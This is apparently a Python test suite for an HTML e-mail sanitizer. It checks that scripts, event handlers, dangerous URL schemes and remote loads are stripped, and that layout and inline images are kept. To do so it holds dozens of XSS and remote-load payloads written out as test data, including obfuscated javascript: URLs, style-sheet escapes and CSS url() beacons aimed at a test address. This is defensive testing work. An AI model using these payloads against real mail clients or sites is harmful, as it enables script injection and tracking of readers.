"""HTML mail sanitized: no script, no event handler, nothing that loads from elsewhere,
whatever the trick; inline (cid:) images shown from the message; remote images only when
asked; the text and layout kept. The browser test (test_review_browser.py) shows that
Chromium runs and loads nothing of the same mail; these cover the variants."""
import re

import html5lib
import pytest

from services.archive.highlight import Highlighter
from services.web.sanitize import BASE_STYLE, frame_policy, sanitize, sanitize_stylesheet
from tests.integration.web.review_mails import hostile_html, png

ORIGIN = "http://198.51.100.7:8"  # TEST-NET-2: whatever names it is a leak
PNG = png(4, 4)

# Variants of each kind of trick: script, event handlers, URL schemes, loads by
# attribute, loads by CSS, parser confusions.
SCRIPTS = ["<script>evil()</script>", "<SCRIPT SRC=//198.51.100.7:8/x.js></SCRIPT>",
           "<scr<script>ipt>evil()</script>", "<script/xss>evil()</script>",
           '<svg><script href="data:,evil()"/></svg>', "<math><script>evil()</script></math>",
           "<noscript><p title=\"</noscript><img src=x onerror=evil()>\"></noscript>",
           "<template><script>evil()</script></template>",
           "<iframe srcdoc=\"<script>evil()</script>\"></iframe>",
           "<object data=\"javascript:evil()\"></object>",
           "<embed src=\"data:text/html,<script>evil()</script>\">",
           "<xmp><script>evil()</script></xmp>", "<plaintext><script>evil()</script>",
           "<!--><script>evil()</script>-->", "<![CDATA[<script>evil()</script>]]>",
           "<style></style><script>evil()</script>", "<title><script>evil()</script></title>"]
HANDLERS = [f"<{tag} {event}=evil()>x</{tag}>" for tag in ("p", "img", "body", "div", "a", "td")
            for event in ("onclick", "onload", "onerror", "onmouseover", "ONFOCUS", "onanimationstart")]
SCHEMES = [f'<a href="{url}">x</a>' for url in (
    "javascript:evil()", "JaVaScRiPt:evil()", " javascript:evil()", "jav&#x09;ascript:evil()",
    "&#106;avascript:evil()", "vbscript:evil()", "data:text/html,<script>evil()</script>",
    "livescript:evil()", "java\0script:evil()")]
LOADS = [
    f'<img src="{ORIGIN}/a.png">', f"<img src='//198.51.100.7:8/b.png'>",
    f'<img srcset="{ORIGIN}/c.png 2x">', f'<img src="x" lowsrc="{ORIGIN}/d.png">',
    f'<img dynsrc="{ORIGIN}/e.avi">', f'<input type="image" src="{ORIGIN}/f.png">',
    f'<body background="{ORIGIN}/g.png">', f'<table background="{ORIGIN}/h.png"><tr><td>t</td></tr></table>',
    f'<td background="{ORIGIN}/i.png">', f'<video poster="{ORIGIN}/j.png"></video>',
    f'<audio src="{ORIGIN}/k.mp3"></audio>', f'<source src="{ORIGIN}/l.mp4">',
    f'<link rel="stylesheet" href="{ORIGIN}/m.css">', f'<link rel="prefetch" href="{ORIGIN}/n">',
    f'<meta http-equiv="refresh" content="0;url={ORIGIN}/o">', f'<base href="{ORIGIN}/">',
    f'<iframe src="{ORIGIN}/p"></iframe>', f'<frameset><frame src="{ORIGIN}/q"></frameset>',
    f'<object data="{ORIGIN}/r"></object>', f'<embed src="{ORIGIN}/s">',
    f'<form action="{ORIGIN}/t"><button>x</button></form>', f'<button formaction="{ORIGIN}/u">x</button>',
    f'<svg><image href="{ORIGIN}/v.png"/></svg>', f'<svg><use href="{ORIGIN}/w.svg#x"/></svg>',
    f'<picture><source srcset="{ORIGIN}/x.png"><img src="data:,"></picture>',
    f'<a ping="{ORIGIN}/y" href="https://example.org/">x</a>',
    f'<img src="data:image/svg+xml,<svg onload=evil()>">', f'<applet code="{ORIGIN}/z.class">',
    f'<isindex action="{ORIGIN}/aa">', f'<div style="behavior: url({ORIGIN}/bb.htc)">x</div>',
]
CSS = [f'<div style="{style}">x</div>' for style in (
    f"background: url({ORIGIN}/1.png)", f"background-image:url('{ORIGIN}/2.png')",
    f"background:u\\72l({ORIGIN}/3.png)", f"background: URL({ORIGIN}/4.png)",
    f"list-style: url({ORIGIN}/5.png)", f"cursor: url({ORIGIN}/6.cur), auto",
    f"border-image: url({ORIGIN}/7.png) 30", f"background: image-set('{ORIGIN}/8.png' 1x)",
    f"width: expression(evil())", f"-moz-binding: url({ORIGIN}/9.xml#x)",
    f"background: /* */ url({ORIGIN}/10.png)", f"content: url({ORIGIN}/11.png)",
    f"mask: url({ORIGIN}/12.svg)", f"filter: url({ORIGIN}/13.svg#f)",
    f"font-family: x; src: url({ORIGIN}/14.woff)")] + [
    f"<style>{css}</style><p class=c>x</p>" for css in (
        f"@import url({ORIGIN}/15.css);", f'@import "{ORIGIN}/16.css";',
        f"@font-face {{ font-family: f; src: url({ORIGIN}/17.woff) }}",
        f".c {{ background: url({ORIGIN}/18.png) }}",
        f"@media all {{ .c {{ background: url({ORIGIN}/19.png) }} }}",
        f"@supports (display:grid) {{ .c {{ background: url({ORIGIN}/20.png) }} }}",
        f".c::after {{ content: url({ORIGIN}/21.png) }}",
        f"@namespace url({ORIGIN}/22);", f".c {{ background: u\\rl({ORIGIN}/23.png) }}",
        f"</style><script>evil()</script><style>")]
CORPUS = SCRIPTS + HANDLERS + SCHEMES + LOADS + CSS + [hostile_html(ORIGIN)]


def frame_body(html: str, remote: bool = False, images=None) -> str:
    """What of the frame's document came from the mail (after our own head)."""
    document = sanitize(html, images or {}, remote).document
    return document[document.index(BASE_STYLE) + len(BASE_STYLE):]


FORBIDDEN_TAGS = {"script", "iframe", "frame", "frameset", "object", "embed", "form",
                  "input", "button", "link", "meta", "base", "svg", "math", "video", "audio",
                  "source", "template", "applet", "image", "use", "isindex", "noscript"}
URL_ATTRIBUTES = {"href", "src", "srcset", "lowsrc", "dynsrc", "background", "poster",
                  "action", "formaction", "data", "ping", "code", "xlink:href"}
SAFE_URL = re.compile(r"(https://example\.org/|#|mailto:|data:image/(png|gif|jpeg|webp);base64,)")


@pytest.mark.parametrize("html", CORPUS)
def test_nothing_runs_and_nothing_loads(html):
    document = html5lib.parse(frame_body(html), namespaceHTMLElements=False)
    for element in document.iter():
        if not isinstance(element.tag, str):
            continue
        assert element.tag.lower() not in FORBIDDEN_TAGS, element.tag
        for name, value in element.attrib.items():
            assert not name.lower().startswith("on"), (element.tag, name)
            if element.tag == "a" and name == "href" and value.startswith("http"):
                # a link loads nothing until clicked, then in a new tab, without referrer
                assert "noreferrer" in element.get("rel") and element.get("target") == "_blank"
            elif name.lower() in URL_ATTRIBUTES:
                assert SAFE_URL.match(value.strip()), (element.tag, name, value)
            if name.lower() == "style":
                assert "url(" not in value.lower() and "expression" not in value.lower()
        if element.tag == "style":  # the mail's style sheet, sanitized
            text = (element.text or "").lower()
            assert "url(" not in text and "@import" not in text and "@font-face" not in text
            assert "198.51.100.7" not in text and "@namespace" not in text


def test_remote_images_only_when_asked_and_only_images():
    html = f'<p>hi</p><img src="{ORIGIN}/pixel.png"><div style="background:url({ORIGIN}/bg.png)">x</div>'
    blocked = sanitize(html, {}, False)
    assert blocked.remote_images == 1 and f'src="{ORIGIN}' not in blocked.document
    assert 'alt="[remote image blocked: 198.51.100.7:8]"' in blocked.document
    assert f'title="{ORIGIN}/pixel.png"' in blocked.document  # what it was, to read
    shown = sanitize(html, {}, True)
    assert f'src="{ORIGIN}/pixel.png"' in shown.document and "bg.png" not in shown.document
    assert "img-src data: http: https:" in frame_policy(True)
    assert "img-src data:;" in frame_policy(False)


@pytest.mark.parametrize("remote", [False, True])
def test_the_frames_policy_allows_no_script_no_form_no_frame_no_load_but_images(remote):
    policy = dict(part.strip().split(" ", 1) for part in frame_policy(remote).split(";"))
    assert policy["default-src"] == "'none'" and "script-src" not in policy
    assert policy["form-action"] == "'none'" and policy["base-uri"] == "'none'"
    assert "allow-scripts" not in policy["sandbox"] and "allow-same-origin" not in policy["sandbox"]
    assert policy["style-src"] == "'unsafe-inline'"


def test_cid_images_become_data_urls_of_the_messages_own_parts():
    html = '<img src="cid:Logo@Example.org" alt="logo"><img src="cid:absent@x"><img src="cid:doc@x">'
    images = {"logo@example.org": ("image/png", PNG), "doc@x": ("image/svg+xml", b"<svg/>")}
    out = sanitize(html, images, False)
    assert out.inline_images == 1 and out.missing_images == ["absent@x"]
    assert 'src="data:image/png;base64,' in out.document
    assert "image/svg" not in out.document  # never a picture that could hold script


def test_layout_text_links_and_the_querys_words_are_kept():
    html = ('<html><head><style>p.note { color: red; margin: 0 4px; background-image: '
            f'url({ORIGIN}/x.png) }}</style></head><body><h1 style="color:#123456">Müller</h1>'
            '<p class="note">The <b>merger</b> report &amp; more</p>'
            '<a href="https://example.org/page">a link</a> <a href="#top">top</a>'
            '<table border="1"><tr><td colspan="2">cell</td></tr></table></body></html>')
    out = sanitize(html, {}, False, Highlighter.of_query("muller merger")).document
    assert "p.note{color:red;margin:0 4px}" in out
    assert '<h1 style="color:#123456"><mark class="hit">Müller</mark></h1>' in out
    assert '<b><mark class="hit">merger</mark></b> report &amp; more' in out
    assert ('<a href="https://example.org/page" target="_blank" '
            'rel="noopener noreferrer nofollow"') in out
    assert '<a href="#top">top</a>' in out and '<td colspan="2">cell</td>' in out


def test_a_style_sheet_cannot_end_its_element():
    css = sanitize_stylesheet('a[title="</style><script>evil()</script>"] { color: red }')
    assert "</style" not in css and "<" not in css


@pytest.mark.parametrize("html", ["", "   ", "<html></html>", "<!-- only a comment -->",
                                  "\x00\x01<p>nul</p>", "<p>" * 5000 + "deep",
                                  "<table>" * 300, "&#xdfff;&#0; <p>bad refs</p>"])
def test_odd_html_never_raises(html):
    assert sanitize(html, {}, False).document.startswith("<!doctype html>")
